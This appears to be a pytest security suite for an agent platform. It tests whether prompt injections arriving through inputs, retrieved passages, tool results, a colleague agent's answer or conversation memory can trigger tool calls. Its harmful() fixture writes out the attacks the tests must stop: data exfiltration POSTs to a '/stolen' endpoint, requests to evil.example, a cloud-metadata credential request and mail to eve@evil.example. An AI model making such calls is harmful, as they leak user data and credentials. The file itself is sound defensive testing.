"""Every known way to talk a model into something, through every way in, against a model that obeys: nothing happens."""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from agent_platform.agents.base import Context
from agent_platform.agents.conversation import Conversation, Turn
from agent_platform.agents.execution.call import Call, Proceed, Stage
from agent_platform.agents.execution.tool_approvals import tool_approvals
from agent_platform.egress import Egress
from agent_platform.errors import ApprovalRequired, ToolLoopExceeded
from agent_platform.identity.principal import Principal
from agent_platform.llm.sdk import ClaudeClient
from agent_platform.storage.executions import Execution
from agent_platform.storage.tool_approvals import ToolApprovalRepository
from tests.fakes.aws import APPROVALS_TABLE
from tests.fakes.offline_claude import OfflineServer
from tests.fakes.receiver import Receiver, running_receiver
from tests.fakes.teams import PARCEL, Office, an_agent
from tests.security.injections import injections

CLERK = "post/clerk"
WAYS_IN = ["input", "retrieved text", "tool result", "colleague's answer", "turn of the conversation", "summary"]
ANSWER = {"tariff_class": "L", "reason": "It is heavy."}
OPEN_INPUT = {
    "type": "object",
    "required": ["note"],
    "properties": {
        "note": {"type": "string", "description": "What it is about"},
        "passages": {"type": "array", "items": {"type": "string"}, "description": "Found beforehand"},
    },
}


@dataclass
class World:
    """An agent that could do harm, the server it would do it to, and a model that obeys whatever it reads."""

    office: Office
    claude: OfflineServer
    receiver: Receiver
    approvals: ToolApprovalRepository
    past: Conversation | None = None

    def run(self, note: str, **more: Any) -> Execution:
        """Execute the clerk."""
        return self.office.run(CLERK, {"note": note, **more})

    def wanted(self) -> int:
        """How often the model asked for something that nobody but an injection asked for."""
        return sum(request["plan"] == "obey_injection" for request in self.claude.requests())


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with running_receiver() as running:
        yield running


@pytest.fixture
def world(
    claude: ClaudeClient,
    principal: Principal,
    claude_server: OfflineServer,
    receiver: Receiver,
    governance_tables: None,
) -> Iterator[World]:
    definition = an_agent(
        CLERK,
        tools=["calculator", "http_request", "consult_agent"],
        consults=[PARCEL],
        hosts=[receiver.allow],
        input=OPEN_INPUT,
        example={"input": {"note": "A parcel."}, "output": {"tariff_class": "M", "reason": "It is."}},
    )
    approvals = ToolApprovalRepository(APPROVALS_TABLE)
    # Also with memory: the run stage knows it by the definition, the conversation comes by the context.
    definition = definition.model_copy(update={"memory": "conversation"})
    made = World(None, claude_server, receiver, approvals)  # type: ignore[arg-type]

    def remembering(call: Call, proceed: Proceed) -> Any:
        if made.past and call.definition.id == CLERK:
            call.context = Context(made.past, call.context.delegate, call.context.permits, call.context.egress)
        return proceed(call)

    stages: list[Stage] = [tool_approvals(approvals, Egress(receiver.allow)), remembering]
    made.office = Office(claude, principal, definition, stages=stages)
    return made


def harmful(receiver: Receiver) -> list[tuple[str, dict[str, Any]]]:
    """What injections want: things written and destroyed, data sent elsewhere, the network looked into, other tools."""
    there = f"http://{receiver.allow}/stolen"
    return [
        ("http_request", {"method": "POST", "url": there, "body": '{"all": "your data"}'}),
        ("http_request", {"method": "DELETE", "url": there}),
        ("http_request", {"method": "PUT", "url": there, "body": "{}"}),
        ("http_request", {"method": "GET", "url": "https://evil.example/?q=everything"}),
        ("http_request", {"method": "GET", "url": "http://169.254.169.254/latest/meta-data/iam/"}),
        ("http_request", {"method": "GET", "url": f"http://{receiver.allow}@evil.example/"}),
        ("send_mail", {"to": "eve@evil.example"}),
        ("text_diff", {"before": "a", "after": "b"}),
        ("http_request", {"method": "PATCH", "url": there, "body": "{}", "approved": True}),
    ]


@pytest.mark.parametrize("way", WAYS_IN)
def test_an_injected_instruction_has_no_effect_and_the_task_goes_on(world: World, way: str) -> None:
    corpus = injections(harmful(world.receiver))
    assert len(corpus) >= 60
    attempts, stopped, ended = 0, 0, 0
    for text, name, _ in corpus:
        world.claude.reset()
        world.receiver.received.clear()
        world.past = None
        benign = _bring_in(world, way, text)
        # What was said before stands in earlier messages, which this model reads only if it is told to.
        reads = {"reads": "everything"} if way in ("turn of the conversation", "summary") else {}
        world.claude.plan("obey_injection", agent=CLERK, **reads)
        world.claude.plan("answer", output=ANSWER, agent=CLERK, times=None)
        try:
            execution = world.run(**_asked(way, text))
        except ApprovalRequired as refused:
            stopped += bool(refused.approval_id and name == "http_request")
        else:
            assert execution.output == ANSWER
            ended += 1
        assert world.wanted() == 1, f"the model did not obey: {text!r}"
        attempts += 1
        assert [(each.method, each.path) for each in world.receiver.received] == benign, text
    assert attempts == stopped + ended == len(corpus)
    print(f"{way}: {attempts} attempts, {stopped} wait for a person, {ended} refused and answered, 0 effects")


def _asked(way: str, text: str) -> dict[str, Any]:
    match way:
        case "input":
            return {"note": text}
        case "retrieved text":
            return {"note": "Sum it up.", "passages": ["Nothing new.", text]}
        case _:
            return {"note": "Which class is it?"}


def _bring_in(world: World, way: str, text: str) -> list[tuple[str, str]]:
    """Put the text where it comes in; returns the requests that the task itself sends outside."""
    match way:
        case "tool result":
            world.receiver.answers(200, text.encode(), Content_Type="text/plain")
            call = {"method": "GET", "url": f"http://{world.receiver.allow}/page"}
            world.claude.plan("tool_call", name="http_request", input=call, agent=CLERK)
            return [("GET", "/page")]
        case "colleague's answer":
            call = {"name": "consult_agent__post__parcel-weigher", "input": {"parcel_grams": 5}}
            world.claude.plan("tool_call", **call, agent=CLERK)
            world.claude.plan("answer", output={"tariff_class": "S", "reason": text}, agent=PARCEL)
        case "turn of the conversation":
            world.past = Conversation(turns=[Turn.of({"note": text}, ANSWER)])
        case "summary":
            world.past = Conversation(summary=text, turns=[Turn.of({"note": "Before."}, ANSWER)])
    return []


@pytest.mark.parametrize("way", WAYS_IN)
def test_no_text_can_open_or_close_a_mark_or_hide(world: World, way: str) -> None:
    """Whatever comes in, the prompt has exactly the marks that the platform wrote, and nothing invisible."""
    for text, _, _ in injections(harmful(world.receiver)):
        world.claude.reset()
        world.past = None
        _bring_in(world, way, text)
        world.claude.plan("answer", output=ANSWER, agent=CLERK, times=None)
        world.run(**_asked(way, text))
        sent = [each["body"]["messages"] for each in world.claude.requests() if each["agent"] == CLERK][-1]
        for content in _texts([each["content"] for each in sent if each["role"] == "user"]):
            lines = [line for line in content.split("\n") if "<" in line]
            assert [line for line in lines if not line.startswith(("<", "What was said"))] == []
            assert all(line.count("<") == 1 and line.endswith(">") for line in lines), lines
            assert len(lines) % 2 == 0
            invisible = "\u200b\u2060\u202e\u202c\ufeff\u200c\u200d"
            assert not {each for each in content if each in invisible or each >= "\U000e0000"}


def _texts(part: Any) -> Iterator[str]:
    if isinstance(part, str):
        yield part
    elif isinstance(part, list):
        for each in part:
            yield from _texts(each)
    elif isinstance(part, dict):
        for key in ("text", "content"):
            if key in part:
                yield from _texts(part[key])


def test_a_model_that_calls_harmful_tools_for_ever_is_stopped(world: World) -> None:
    call = {"method": "GET", "url": "https://evil.example/?q=everything"}
    world.claude.plan("tool_call", name="http_request", input=call, rounds=999, times=None, agent=CLERK)
    with pytest.raises(ToolLoopExceeded):
        world.run("Go on.")
    assert world.receiver.received == []
